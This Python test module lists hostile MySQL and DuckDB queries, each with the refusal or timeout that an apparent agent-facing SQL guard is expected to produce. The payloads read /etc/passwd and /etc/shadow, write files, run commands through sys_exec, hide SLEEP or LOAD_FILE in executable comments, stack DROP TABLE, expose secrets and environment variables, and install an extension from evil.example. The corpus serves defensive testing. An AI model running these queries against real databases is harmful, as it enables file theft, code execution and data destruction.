"""Hostile SQL that only MySQL/MariaDB or DuckDB would run, and the outcome each must have.

ClickHouse's own list is in engine_corpora.py, with the other engines'.
"""

from __future__ import annotations

from tests.react_agent.tools.engine_corpora import CLICKHOUSE_ONLY
from tests.react_agent.tools.test_hostile_corpus import (
    FAILED,
    HOSTILE,
    LOOK_ALIKES,
    REFUSED,
    ROWS,
    TIMEOUT,
    Case,
)

NOT_PARSED = "could not be parsed"
# A scan of ten million generated rows, each hashed: the time limit must stop it.
MYSQL_SCAN = "SELECT count(*) AS n FROM seq_1_to_10000000 WHERE MD5(seq) LIKE 'abc%'"
DUCKDB_SCAN = "SELECT count(*) AS n FROM range(10000000000) r WHERE hash(r.range) % 7 = 3"

MYSQL_ONLY = [
    # --- files: written, read, loaded
    Case("SELECT * FROM orders INTO OUTFILE '{out}/orders.csv'", NOT_PARSED),
    Case("SELECT region_name FROM regions INTO OUTFILE 'relative.csv'", NOT_PARSED),
    Case("SELECT 'x' INTO DUMPFILE '{out}/x.bin'", NOT_PARSED),
    Case("SELECT * INTO OUTFILE '{out}/o.csv' FROM orders", NOT_PARSED),
    Case("LOAD DATA INFILE '/etc/passwd' INTO TABLE regions", NOT_PARSED),
    Case("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE regions", NOT_PARSED),
    Case("SELECT LOAD_FILE('/etc/passwd')", "function load_file is not allowed"),
    Case("SELECT load_file(0x2f6574632f706173737764) AS f", "function load_file is not allowed"),
    Case(
        "SELECT region_id FROM regions UNION SELECT LOAD_FILE('/etc/passwd')",
        "function load_file is not allowed",
    ),
    # --- executable comments: MySQL runs what sqlglot reads as a comment
    Case("SELECT /*!50000 LOAD_FILE('/etc/passwd') */ 1", "executable comments"),
    Case("SELECT 1 /*!, SLEEP(5) */", "executable comments"),
    Case("SELECT /*M!100000 SLEEP(5) */ 1", "executable comments"),
    Case(
        "SELECT count(*) FROM orders /*!99999 INTO OUTFILE '{out}/c.txt' */", "executable comments"
    ),
    # --- user and system variables
    Case("SELECT @a := 1", "user variables assigned with := are not allowed"),
    Case("SELECT @n := COUNT(*) FROM orders", "user variables assigned with :="),
    Case("SELECT * FROM orders WHERE (@c := @c + 1) > 0", "user variables assigned with :="),
    Case("SET @a = 1", "SET is not allowed"),
    Case("SELECT @@secure_file_priv", "system variables"),
    Case("SELECT @@global.read_only", "system variables"),
    Case("SELECT 1 INTO @x", "SELECT … INTO is not allowed"),
    # --- sleeping, burning, locking
    Case("SELECT SLEEP(5)", "function sleep is not allowed"),
    Case("SELECT `sleep`(5)", "function sleep is not allowed"),
    Case("SELECT BENCHMARK(100000000, MD5('x'))", "function benchmark is not allowed"),
    Case("SELECT GET_LOCK('x', 10)", "function get_lock is not allowed"),
    Case("SELECT RELEASE_ALL_LOCKS()", "function release_all_locks is not allowed"),
    Case("SELECT IS_USED_LOCK('x')", "function is_used_lock is not allowed"),
    Case("SELECT MASTER_POS_WAIT('log', 4)", "function master_pos_wait is not allowed"),
    Case("HANDLER orders OPEN", NOT_PARSED),
    Case("HANDLER orders READ FIRST", NOT_PARSED),
    Case("DO SLEEP(5)", NOT_PARSED),
    Case("DO GET_LOCK('x', 0)", NOT_PARSED),
    Case("SELECT * FROM orders FOR UPDATE", "locking clauses"),
    Case("SELECT * FROM orders LOCK IN SHARE MODE", "locking clauses"),
    Case("SELECT * FROM orders FOR UPDATE NOWAIT", "locking clauses"),
    Case("LOCK TABLES orders WRITE", "is not allowed"),
    Case("UNLOCK TABLES", "is not allowed"),
    # --- settings, sessions, the server
    Case("SET GLOBAL max_connections = 1", "SET is not allowed"),
    Case("SET GLOBAL read_only = OFF", "SET is not allowed"),
    Case("SET SESSION max_statement_time = 0", "SET is not allowed"),
    Case("SET STATEMENT max_statement_time = 0 FOR SELECT 1", "is not allowed"),
    Case("KILL 1", "KILL is not allowed"),
    Case("KILL QUERY 1", "KILL is not allowed"),
    Case("SHOW PROCESSLIST", "SHOW is not allowed"),
    Case("SHOW GRANTS", "SHOW is not allowed"),
    Case("FLUSH PRIVILEGES", "is not allowed"),
    Case("INSTALL PLUGIN x SONAME 'x.so'", NOT_PARSED),
    Case("CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib.so'", "CREATE is not allowed"),
    Case("SELECT sys_exec('touch /tmp/pwned')", "function sys_exec is not allowed"),
    Case("XA START 'x'", NOT_PARSED),
    Case("SHUTDOWN", "is not allowed"),
    # --- writes MySQL spells its own way
    Case("REPLACE INTO regions VALUES (1, 'x')", "is not allowed"),
    Case(
        "INSERT INTO regions VALUES (1, 'x') ON DUPLICATE KEY UPDATE region_name = 'y'",
        "INSERT is not allowed",
    ),
    Case("UPDATE orders o JOIN regions r ON 1 = 1 SET o.total_amount = 0", "UPDATE is not allowed"),
    Case("DELETE o FROM orders o", "DELETE is not allowed"),
    Case("RENAME TABLE orders TO gone", "is not allowed"),
    Case("OPTIMIZE TABLE orders", "is not allowed"),
    Case("PREPARE s FROM 'DELETE FROM orders'", "is not allowed"),
    Case("CALL mysql.pwn()", "CALL is not allowed"),
    # --- several statements, other databases, catalogs
    Case("SELECT 1; SELECT SLEEP(5)", "only one statement"),
    Case("SELECT 1;DROP TABLE orders", "only one statement"),
    Case("SELECT * FROM mysql.user", "system table mysql.user"),
    Case("TABLE mysql.user", "system table mysql.user"),
    Case("SELECT * FROM information_schema.processlist", "system table"),
    Case("SELECT * FROM performance_schema.threads", "system table"),
    Case("SELECT * FROM sys.processlist", "system table"),
    Case("SELECT * FROM test.orders", "database-qualified name test.orders"),
    # --- runaway work the time limit stops
    Case(MYSQL_SCAN, expect=TIMEOUT),
    Case("SELECT count(*) FROM order_items a, order_items b, order_items c", expect=TIMEOUT),
]

DUCKDB_ONLY = [
    Case("SELECT * FROM '/etc/passwd'", "reading files or URLs"),
    Case("SELECT * FROM 'orders.csv'", "reading files or URLs"),
    Case("SELECT * FROM 'https://example.com/x.parquet'", "reading files or URLs"),
    Case("FROM '{out}/../../etc/passwd'", "reading files or URLs"),
    Case("SELECT * FROM read_csv('/etc/passwd')", "function read_csv is not allowed"),
    Case("SELECT * FROM read_csv_auto('/etc/passwd')", "is not allowed"),
    Case("SELECT * FROM read_text('/etc/passwd')", "function read_text is not allowed"),
    Case("SELECT * FROM read_blob('/etc/shadow')", "function read_blob is not allowed"),
    Case("SELECT * FROM read_parquet('{out}/*.parquet')", "is not allowed"),
    Case("SELECT * FROM read_json('/etc/passwd')", "is not allowed"),
    Case("SELECT * FROM parquet_scan('x.parquet')", "is not allowed"),
    Case("SELECT * FROM glob('/etc/*')", "function glob is not allowed"),
    Case("SELECT * FROM query('SELECT * FROM duckdb_settings()')", "function query is not allowed"),
    Case("SELECT * FROM query_table('orders')", "function query_table is not allowed"),
    Case("SELECT getenv('HOME')", "function getenv is not allowed"),
    Case("SELECT * FROM duckdb_settings()", "function duckdb_settings is not allowed"),
    Case("SELECT * FROM duckdb_secrets()", "function duckdb_secrets is not allowed"),
    Case("SELECT * FROM duckdb_tables", "system table duckdb_tables"),
    Case("SELECT * FROM information_schema.tables", "system table"),
    Case("SELECT * FROM sqlite_scan('x.db', 't')", "is not allowed"),
    Case("COPY orders TO '{out}/orders.csv'", "COPY is not allowed"),
    Case("COPY (SELECT * FROM orders) TO '{out}/o.parquet' (FORMAT parquet)", "COPY"),
    Case("EXPORT DATABASE '{out}/dump'", NOT_PARSED),
    Case("IMPORT DATABASE '{out}/dump'", NOT_PARSED),
    Case("ATTACH '{out}/x.duckdb' AS x", "ATTACH is not allowed"),
    Case("ATTACH 'postgres:dbname=x' AS pg (TYPE postgres)", "ATTACH is not allowed"),
    Case("DETACH files", "DETACH is not allowed"),
    Case("INSTALL httpfs", "INSTALL is not allowed"),
    Case("LOAD httpfs", "LOAD is not allowed"),
    Case("FORCE INSTALL httpfs FROM 'http://evil.example'", "is not allowed"),
    Case("SET enable_external_access = true", "SET is not allowed"),
    Case("RESET lock_configuration", "is not allowed"),
    Case("PRAGMA enable_profiling", "PRAGMA is not allowed"),
    Case("CALL pragma_version()", "is not allowed"),
    Case("CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')", "is not allowed"),
    Case("CREATE MACRO m(x) AS x + 1", "CREATE is not allowed"),
    Case("SUMMARIZE orders", "SUMMARIZE is not allowed"),
    Case("CHECKPOINT", "is not allowed"),
    Case("SELECT 1; SELECT 2", "only one statement"),
    Case(DUCKDB_SCAN, expect=TIMEOUT),
]

# How the shared corpus ends in each dialect where it differs from SQLite's outcome.
_OUTCOMES = {
    "mysql": {
        # MariaDB ends a recursive CTE after max_recursive_iterations (1000) with a warning.
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) "
        "SELECT count(*) FROM r": ROWS,
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) "
        "SELECT n FROM r ORDER BY n DESC LIMIT 1": ROWS,
    },
    "duckdb": {},
    # ClickHouse ends a recursive CTE at max_recursive_cte_evaluation_depth (1000), an error.
    "clickhouse": {
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) "
        "SELECT count(*) FROM r": FAILED,
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) "
        "SELECT n FROM r ORDER BY n DESC LIMIT 1": FAILED,
    },
}
# Refused for another reason than in SQLite: parsing fails first in these dialects.
_REASONS = {
    "mysql": {'SELECT "pg_sleep"(5)': NOT_PARSED},
    "duckdb": {"SELECT sqlar_uncompress(x'00', 1)": NOT_PARSED},
    "clickhouse": {"SELECT sqlar_uncompress(x'00', 1)": NOT_PARSED},
}


def corpus(dialect: str) -> list[Case]:
    """Return the shared corpus, as it must end in `dialect`, plus the dialect's own."""
    own = {"mysql": MYSQL_ONLY, "duckdb": DUCKDB_ONLY, "clickhouse": CLICKHOUSE_ONLY}[dialect]
    cases = []
    for case in HOSTILE + LOOK_ALIKES:
        outcome = _OUTCOMES[dialect].get(case.sql, case.outcome("sqlite"))
        reason = _REASONS[dialect].get(case.sql, case.reason_in(dialect))
        cases.append(Case(case.sql, reason if outcome == REFUSED else "", outcome))
    return cases + own
